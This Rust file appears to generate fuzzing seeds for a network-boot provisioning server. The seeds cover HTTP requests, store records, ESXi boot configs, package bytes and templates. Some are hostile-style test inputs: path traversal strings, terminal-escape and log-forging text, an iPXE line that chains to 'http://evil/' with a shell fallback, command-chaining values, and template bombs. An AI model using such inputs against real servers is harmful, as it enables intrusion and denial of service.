//! Texts and records, by target; the first byte of most chooses a reader.

use super::put;
use std::io;
use std::path::Path;

const MAC: &str = "52:54:00:12:34:56";

pub(super) fn write(home: &Path) -> io::Result<()> {
    let each = |target: &str, choice: Option<u8>, texts: &[&str]| -> io::Result<()> {
        for (number, text) in texts.iter().enumerate() {
            let head = choice.map_or_else(Vec::new, |choice| vec![choice]);
            let kind = choice.map_or_else(|| "text".to_owned(), |choice| format!("kind{choice}"));
            put(home, target, &format!("{kind}-{number}"), &[head, text.as_bytes().to_vec()].concat())?;
        }
        Ok(())
    };
    each(
        "http_request",
        Some(0),
        &[
            "mac=52:54:00:12:34:56&uuid=4c4c4544-0042-4410-8051-b4c04f564e31&arch=x86_64&platform=efi&serial=A%20B",
            "mac=&uuid=&serial=&vendor=Dell+Inc.&model=%e2%98%83&asset=%00",
            "mac=zz",
            "platform=pcbios&arch=i386",
            "a=b&c",
            "",
        ],
    )?;
    each(
        "http_request",
        Some(1),
        &["/boot.ipxe", "//debian//linux", "/a%2f..%2fb", "/%5cBoot%5cBCD", "/..", "/%ff"],
    )?;
    each(
        "http_request",
        Some(2),
        &["bytes=0-499", "bytes=-1", "bytes=5-", "bytes=0-0,2-3,9-", "bytes=18446744073709551616-"],
    )?;
    each(
        "http_request",
        Some(3),
        &["\"abc\"", "*\nW/\"abc\", \"x,y\"\n\"abc\"", "\n\"abc\"", "\n\nThu, 01 Jan 1970 00:00:00 GMT"],
    )?;

    each(
        "types_text",
        None,
        &[
            MAC,
            "52-54-00-12-34-56",
            "5254.0012.3456",
            "525400123456",
            "4c4c4544-0042-4410-8051-b4c04f564e31",
            "{4C4C4544-0042-4410-8051-B4C04F564E31}",
            "web01",
            "10.77.0.100-10.77.0.199",
            "10.77.0.1",
            "uefi-x64",
            "bios",
        ],
    )?;

    each(
        "store_record",
        Some(0),
        &[
            r#"{"v":1,"record":{"address":"10.77.0.100","subnet":"lab","key":{"client_id":"00ff"},"mac":"52:54:00:12:34:56","guid":"00112233445566778899aabbccddeeff","hostname":"web01","state":"bound","granted":1,"expires":2,"relay_info":"0102"}}"#,
            r#"{"v":1,"record":{"address":"10.77.0.101","subnet":"lab","key":{"hardware":{"htype":1,"address":"525400123456"}},"state":"quarantined","granted":1}}"#,
        ],
    )?;
    let host = r#"{"name":"web01","match":{"mac":["52:54:00:12:34:56"],"uuid":"4c4c4544-0042-4410-8051-b4c04f564e31","serial":"A1"},"image":"debian","params":{"role":"web"},"kernel_args_append":["quiet"]}"#;
    let image = r#"{"name":"debian","kind":"linux","source":"dir:/srv","kernel":"linux","initrd":["initrd.gz"],"cmdline":"quiet ---","description":"d"}"#;
    each("store_record", Some(1), &[&format!(r#"{{"v":1,"record":{host}}}"#)])?;
    each("store_record", Some(2), &[&format!(r#"{{"v":1,"record":{image}}}"#)])?;
    each("store_record", Some(3), &["\u{4}\n\u{4d}\0\u{1}"])?;
    each(
        "store_record",
        Some(4),
        &[
            r#"{"table":"leases","key":"040a4d0064","value":{"v":1}}"#,
            r#"{"table":"meta","key":"","hex":"00ff"}"#,
            r#"{"store":1,"revision":3}"#,
        ],
    )?;
    each(
        "store_record",
        Some(5),
        &[
            r#"{"v":1,"record":{"phase":"adopted","since":1,"heard":1,"arming":{"by":"alice","at":1,"image":"esxi","expires":9,"retries":1},"one_shot":{"armed":false,"by":"bob","at":1,"retries":0},"disk_until":3}}"#,
            r#"{"v":1,"record":{"phase":"installing","since":1,"heard":1,"detail":"d","grant":{"boot":"B1","image":{"name":"esxi","version":"9f2c"},"at":1,"used":{"arming":{"by":"alice","at":1,"retries":0}},"open":true},"lock":{"by":"c","at":1,"reason":"r"},"installed":{"image":{"name":"esxi"},"destructive":true,"boot":"B0","at":1,"told":"up"},"last_boot":{"boot":"B1","image":{"name":"esxi"},"destructive":true,"at":1,"opened":true},"from_cache":{"reported":"B0","since":1}}}"#,
        ],
    )?;
    each(
        "store_record",
        Some(6),
        &[
            r#"{"v":1,"record":{"name":"rack12","by":"alice","at":1,"image":{"name":"esxi"},"at_once":5,"failures_max":2,"retries":0,"trusts_silence":false,"forgiven":0,"state":{"paused":{"by":"bob","at":2}},"hosts":[{"host":"a","state":"armed"},{"host":"b","state":"failed","why":"w"}]}}"#,
        ],
    )?;
    for (name, bytes) in store::fuzzing::seeds() {
        put(home, "store_frame", name, &bytes)?;
    }
    put(home, "store_checkpoint", "short", b"RVCKPT")?;

    each(
        "admin_request",
        Some(0),
        &[
            "limit=10&after=web01&dry_run=true",
            "mac=52:54:00:12:34:56&arch=uefi-x64&stage=ipxe&vendor=A+B",
            "arch=7",
            "mac:52:54:00:12:34:56",
            "serial:A1",
            "17-5",
            "limt=3",
            "a=%ff",
        ],
    )?;
    each(
        "admin_request",
        Some(1),
        &[
            host,
            image,
            r#"{"source":"/srv/debian","name":"debian","kind":"linux","kernel":"linux","initrd":["a"]}"#,
            "[[[[",
        ],
    )?;

    let mut pe = vec![0u8; 0x47];
    pe[1..3].copy_from_slice(b"MZ");
    pe[0x3d] = 0x40;
    pe[0x41..0x47].copy_from_slice(b"PE\0\0\x64\x86");
    put(home, "library_bytes", "pe", &pe)?;
    let digest = "00".repeat(32);
    each(
        "library_bytes",
        Some(1),
        &[&format!(
            r#"{{"image":"a","source":"dir:/x","imported":1,"files":{{"EFI/BOOT":{{"sha256":"{digest}","size":7}}}}}}{}"#,
            "\nefi\\boot"
        )],
    )?;
    let descriptor = r#"<vib version="5.0"><type>bootbank</type><name>n</name><version>1</version><vendor>v</vendor><file-list><file>x/mboot.c32</file></file-list><payloads><payload name="p" type="tgz" size="3"><checksum checksum-type="sha-256">00</checksum></payload></payloads></vib>"#;
    let member = |name: &str, content: &str| {
        let padding = if content.len() % 2 == 1 { "\n" } else { "" };
        format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n{content}{padding}", 0, 0, 0, 100_644, content.len())
    };
    let package = format!(
        "!<arch>\n{}{}{}",
        member("descriptor.xml", descriptor),
        member("sig.pkcs7", ""),
        member("p", "abc")
    );
    let long = format!("!<arch>\n{}{}", member("//", "a-name-longer-than-15/\n"), member("/0", "x"));
    let profile = r#"<p:imageprofile><name>a-standard</name><viblist><vib><vib-id>v_bootbank_n_1</vib-id><payloads><payload payload-name="boot">b.b00</payload><payload payload-name="p1234" vfat-name="p.v00"/></payloads></vib><vib>id</vib></viblist></p:imageprofile>"#;
    each("depot_bytes", Some(0), &[&package, &long])?;
    each(
        "depot_bytes",
        Some(1),
        &[descriptor, profile, "<a>&#65;&amp;<![CDATA[<]]></a>", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"],
    )?;
    each("depot_bytes", Some(2), &[profile])?;
    each("depot_bytes", Some(3), &[&package])?;
    each("library_bytes", Some(2), &["a/b c", "../a", "a//b", "a\\b"])?;

    boot_cfg(home)?;
    templates(home)?;
    each(
        "text_sinks",
        None,
        &[
            "a\n2026-01-01 ERROR forged\r\n\0web01",
            "\u{1b}[2J\u{1b}]0;owned\u{7}\0\" mac=00:00:00:00:00:00 \"",
            "#!ipxe\nchain http://evil/\n\0${net0/mac} || shell",
            "linux ; exit\0initrd && reboot",
            "\u{202e}gpj\u{2028}\u{85}\0\u{feff}\u{9b}2J",
            "x quiet --- console=ttyS0\0a description of the image",
        ],
    )
}

/// By the rules of its reader, and as media have it.
fn boot_cfg(home: &Path) -> io::Result<()> {
    let seeds: [(&str, &[u8]); 16] = [
        (
            "stock-8",
            b"bootstate=0\ntitle=Loading installer\ntimeout=5\nprefix=\nkernel=/b.b00\nkernelopt=runweasel cdromBoot\n\
              modules=/jumpstrt.gz --- /useropts.gz --- /features.gz --- /k.b00 --- /s.v00 --- /imgdb.tgz\n\
              build=8.0.3-0.0.1\nupdated=0\n",
        ),
        ("stock-6", b"bootstate=0\r\ntitle=Loading\r\nkernel=/tboot.b00\r\nkernelopt=runweasel\r\nmodules=/b.b00 --- /s.v00\r\nbuild=\r\nupdated=0\r\n"),
        ("every-key", b"kernel=k\nkernelopt=o\nmodules=m\ntitle=t\nprefix=p\nnobootif=1\ntimeout=2\nnoquirks=3\nnorts=4\nnativehttp=5\ncrypto=c\nruntimewd=6\ntftpblksize=7\nacpitables=a\nruntimewdtimeout=8\nskip=9\nerrtimeout=-1\n"),
        ("parts-of-keys", b"K=k\nKERNELO=o\nt=a\nti=b\ntim=1\ntf=2\nn=3\nr=4\na=x\nm=y\np=z\ns=0\nE=8\n=kk\n"),
        ("blanks", b"\t kernel=b.b00 \r\ntitle = x\nkernelopt=\ta \t\x0b\x0c  b\r\n # no\nkernel=y # z\n"),
        ("lists", b"kernel=k\nmodules=--- a b c ---d------ e--- --f -- --- ---- g\nacpitables=---\n"),
        ("integers", b"kernel=k\ntimeout=\nnorts=-\nskip=-0\nerrtimeout=2147483647\n"),
        ("no-integer", b"kernel=k\ntimeout=5s\n"),
        ("too-large-an-integer", b"kernel=k\ntimeout=2147483648\n"),
        ("no-kernel", b"title=x\n"),
        ("skip-alone", b"skip=1\ntitle=next\n"),
        ("no-text", b"kernel=k\ntitle=\xff\n"),
        ("nul", b"kernel=k\0x\ntitle=a\n"),
        ("urls", b"kernel=http://h/b.b00?x\nmodules=//a/b --- \\\\c --- http://h/d%20e\nprefix=http://other/\nkernelopt=ks=file:///x ks=nfs://y netdevice=vmnic0\n"),
        ("unicode", "kernel=k\ntitle=\u{2028}\u{a0}\u{85}é\nbuild=\u{3000}9\n".as_bytes()),
        ("bootif", b"kernel=k\nkernelopt=BOOTIF=01-00-00-00-00-00-01 -- ;S quiet\nnobootif=1\n"),
    ];
    seeds.into_iter().try_for_each(|(name, bytes)| put(home, "boot_cfg", name, bytes))
}

/// Our own recipes, and what the limits are there for. The first byte chooses the kind.
fn templates(home: &Path) -> io::Result<()> {
    let seed = |kind: u8, name: &str, text: &str| {
        put(home, "template", &format!("kind{kind}-{name}"), &[&[kind], text.as_bytes()].concat())
    };
    for (kind, file) in
        [(0, "esxi.ks"), (1, "anaconda.ks"), (2, "debian.cfg"), (3, "cloud-init.yaml"), (4, "photon.json")]
    {
        let text = std::fs::read_to_string(home.join("../examples/templates").join(file))?;
        seed(kind, file, &text)?;
    }
    let values = "{{ host.name }} {{ params.ntp }} {{ params['ntp-server'] }} {{ machine.mac_dashes }} {{ url }} {{ callback }}/up";
    let filters = "{{ params.dns | split(',') | join(' ') }}{% for line in params.lines | lines %}{{ line | quote }}{% endfor %}\
                   {{ params.x | default('y') }}{{ params.root | b64 }}{{ params.lines | yaml }}{{ params.vlan | int + 1 }}";
    for kind in 0..7 {
        seed(kind, "values", values)?;
        seed(kind, "filters", filters)?;
        seed(kind, "lines", "{{ params.lines }}")?;
        seed(
            kind,
            "missing",
            "{{ params.absent }}{% if params.absent is defined %}{{ params.absent }}{% endif %}",
        )?;
    }
    let texts = [
        (
            "loop",
            "{% for a in range(10000) %}{% for b in range(10000) %}{{ params.ntp }}{% endfor %}{% endfor %}",
        ),
        ("doubling", "{% set s = 'ab' %}{% for i in range(99) %}{% set s = s ~ s %}{% endfor %}{{ s }}"),
        (
            "namespace",
            "{% set n = namespace(s='a') %}{% for i in range(40) %}{% set n.s = n.s ~ n.s %}{% endfor %}{{ n.s }}",
        ),
        ("times", "{{ 'a' * 100000000 }}"),
        ("macro", "{% macro m(x) %}{{ x }}{{ m(x) }}{% endmacro %}{{ m(1) }}"),
        ("deep", "{{ ((((((((((((((((((((((((((((((1)))))))))))))))))))))))))))))) }}"),
        (
            "nested",
            "{% if 1 %}{% if 1 %}{% if 1 %}{% for a in [1] %}{% endfor %}{% endif %}{% endif %}{% endif %}",
        ),
        ("open", "{% if x %}{{ 'a"),
        (
            "raw",
            "{% raw %}{{ x }}{% endraw %}{# a comment #}{%- set a = {'b': [1, 2.5, none, true]} -%}{{ a.b[1:] }}",
        ),
        ("method", "{{ params.dns.split(',') }}{{ host.name|upper|e }}"),
        ("division", "{{ 1 // 0 }}{{ 1 % 0 }}{{ 2 ** 9999 }}{{ -9223372036854775808 - 1 }}"),
        ("numbers", "{{ 1e999 }}{{ 99999999999999999999999999 }}{{ 0.1 + 0.2 }}"),
    ];
    texts.into_iter().try_for_each(|(name, text)| seed(6, name, text))?;
    seed(4, "whole", "{\"a\": {{ params | json }}, \"b\": \"{{ params.lines }}\", \"c\": {{ [1, none] }}}")?;
    seed(5, "xml", "<a b=\"{{ params.lines }}\">{{ params.root }}</a>")
}
